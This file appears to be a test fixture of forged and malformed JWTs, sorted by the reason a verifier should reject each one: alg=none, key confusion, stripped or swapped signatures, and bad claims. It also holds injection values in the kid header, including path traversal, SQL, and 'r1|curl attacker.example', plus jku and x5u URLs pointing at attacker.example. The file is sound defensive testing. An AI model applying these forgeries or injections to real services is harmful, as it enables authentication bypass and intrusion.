"""Tokens (JWT) that are nobody's, each with one thing wrong about it."""

import hashlib
import hmac
import time
from collections.abc import Callable
from typing import Any

from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.hashes import SHA256

from support.tokens import AUDIENCE, ISSUER, SECRET, claims, ec_key, forged, jwk, public_pem, rsa_key, segment, signed

ATTACKS: dict[str, list[tuple[str, Callable[[], str]]]] = {
    "algorithm": [
        ("alg none", lambda: forged({"alg": "none", "kid": "r1"}, claims())),
        ("alg None", lambda: forged({"alg": "None"}, claims())),
        ("alg nOnE with a signature", lambda: forged({"alg": "nOnE", "kid": "r1"}, claims(), b"x" * 256)),
        ("alg null", lambda: forged({"alg": None, "kid": "r1"}, claims())),
        ("alg a list", lambda: forged({"alg": ["RS256"], "kid": "r1"}, claims())),
        ("alg missing", lambda: forged({"typ": "JWT", "kid": "r1"}, claims())),
        ("public key as HMAC secret", lambda: confused("HS256", public_pem(rsa_key()))),
        ("public key as HMAC secret, stripped", lambda: confused("HS256", public_pem(rsa_key()).strip())),
        ("another algorithm of the same key", lambda: signed(rsa_key(), "RS512")),
        ("PSS", lambda: signed(rsa_key(), "PS256")),
        ("HS256 where keys are public", lambda: signed(SECRET, "HS256")),
        ("RS256 where a secret is shared", lambda: signed(rsa_key(), iss="partner")),
        ("the other issuer's", lambda: signed(rsa_key(), iss="partner")),
    ],
    "signature or key": [
        ("public key as HMAC secret, said to be RS256", lambda: confused("RS256", public_pem(rsa_key()))),
        ("no secret at all", lambda: confused("HS256", b"", iss="partner")),
        ("the algorithm of another key", lambda: signed(ec_key(), "ES256", header={"kid": "r1"})),
        ("EC key, RSA named", lambda: signed(rsa_key(), header={"kid": "e1"})),
        ("a stranger's key", lambda: signed(rsa_key(1))),
        ("a stranger's key without an id", lambda: signed(rsa_key(1), header={"kid": ...})),
        ("kid of a file", lambda: signed(rsa_key(1), header={"kid": "../../../../../../dev/null"})),
        ("kid of a file, empty secret", lambda: confused("HS256", b"", header={"kid": "/dev/null"}, iss="partner")),
        ("kid with SQL", lambda: signed(rsa_key(1), header={"kid": "' UNION SELECT 'key' --"})),
        ("kid a URL", lambda: signed(rsa_key(1), header={"kid": "https://attacker.example/keys"})),
        ("kid with a command", lambda: signed(rsa_key(1), header={"kid": "r1|curl attacker.example"})),
        ("kid with a zero byte", lambda: signed(rsa_key(1), header={"kid": "r1\0"})),
        ("jku", lambda: signed(rsa_key(1), header={"kid": "a", "jku": "https://attacker.example/keys"})),
        ("x5u", lambda: signed(rsa_key(1), header={"kid": "a", "x5u": "https://attacker.example/key"})),
        ("jwk", lambda: signed(rsa_key(1), header={"jwk": jwk(rsa_key(1), "r1")})),
        ("x5c", lambda: signed(rsa_key(1), header={"x5c": [segment(public_pem(rsa_key(1)))]})),
        ("subject a list", lambda: forged({"alg": "RS256", "kid": "r1"}, claims(sub=["shop"]))),
        ("signature cut off", lambda: signed(rsa_key()).rpartition(".")[0] + "."),
        ("content changed", lambda: swapped(signed(rsa_key()), claims(sub="shop", exp=int(time.time()) + 9999))),
    ],
    "no token": [
        ("kid a number", lambda: forged({"alg": "RS256", "kid": 1}, claims())),
        ("kid an object", lambda: forged({"alg": "RS256", "kid": {"r1": "r1"}}, claims())),
        ("unknown crit", lambda: signed(rsa_key(), header={"crit": ["exp"], "exp": 1})),
        ("crit empty", lambda: forged({"alg": "RS256", "kid": "r1", "crit": []}, claims())),
        ("deep header", lambda: forged(b"[" * 3000, claims())),
        ("deep payload", lambda: forged({"alg": "RS256", "kid": "r1"}, b'{"a":' * 1200)),
        ("payload no object", lambda: forged({"alg": "RS256", "kid": "r1"}, ["shop"])),
        ("not base64", lambda: "!.!.!"),
        ("empty parts", lambda: ".."),
        ("four parts", lambda: f"{signed(rsa_key())}.x"),
        ("no JSON", lambda: forged(b"\xff", b"\xff")),
        ("not text", lambda: "\udcff.\udcff.\udcff"),
    ],
    "ExpiredSignatureError": [
        ("expired", lambda: signed(rsa_key(), exp=int(time.time()) - 31)),
    ],
    "ImmatureSignatureError": [
        ("not yet valid", lambda: signed(rsa_key(), nbf=int(time.time()) + 60)),
        ("issued in the future", lambda: signed(rsa_key(), iat=int(time.time()) + 60)),
    ],
    "DecodeError": [
        ("exp no time", lambda: signed(rsa_key(), exp="never")),
        ("exp without end", lambda: resigned('{"iss":"%s","aud":"%s","sub":"shop","exp":Infinity}')),
    ],
    "MissingRequiredClaimError": [
        ("exp missing", lambda: signed(rsa_key(), exp=...)),
        ("audience missing", lambda: signed(rsa_key(), aud=...)),
        ("audience empty", lambda: signed(rsa_key(), aud=[])),
        ("subject missing", lambda: signed(rsa_key(), sub=...)),
    ],
    "InvalidAudienceError": [
        ("wrong audience", lambda: signed(rsa_key(), aud="another")),
        ("wrong audiences", lambda: signed(rsa_key(), aud=["another", "ordergate2"])),
    ],
    "issuer": [
        ("wrong issuer", lambda: signed(rsa_key(), iss="https://login.example.com")),
        ("issuer missing", lambda: signed(rsa_key(), iss=...)),
        ("issuer a list", lambda: forged({"alg": "RS256", "kid": "r1"}, claims(iss=[ISSUER]))),
    ],
    "caller": [
        ("subject empty", lambda: signed(rsa_key(), sub="")),
        ("subject of nobody", lambda: signed(rsa_key(), sub="admin")),
    ],
    "header": [
        ("crit that a library knows", lambda: resigned(RIGHT, crit=["b64"], b64=True)),
        ("another kind of token", lambda: signed(rsa_key(), header={"typ": "logout+jwt"})),
    ],
    "too long": [
        ("too long", lambda: signed(rsa_key(), padding="x" * 8192)),
    ],
}
"""By the reason for which they are to be refused, which the log gives and the caller never learns."""


def confused(algorithm: str, secret: bytes, header: dict[str, Any] | None = None, **changed: Any) -> str:
    """Return a token that is signed with HMAC, whatever it says."""
    head = segment({"alg": algorithm, "kid": "r1", **(header or {})})
    signing = f"{head}.{segment(claims(**changed))}"
    return f"{signing}.{segment(hmac.new(secret, signing.encode(), hashlib.sha256).digest())}"


RIGHT = '{"iss":"%s","aud":"%s","sub":"shop","exp":99999999999}'


def resigned(payload: str, **header: Any) -> str:
    """Return a token of the issuer's that no encoder makes."""
    written = (payload % (ISSUER, AUDIENCE)).encode()
    signing = f"{segment({'alg': 'RS256', 'kid': 'r1', **header})}.{segment(written)}"
    return f"{signing}.{segment(rsa_key().sign(signing.encode(), padding.PKCS1v15(), SHA256()))}"


def swapped(token: str, payload: dict[str, Any]) -> str:
    """Return a token with another payload than was signed."""
    header, _, signature = token.split(".")
    return f"{header}.{segment(payload)}.{signature}"
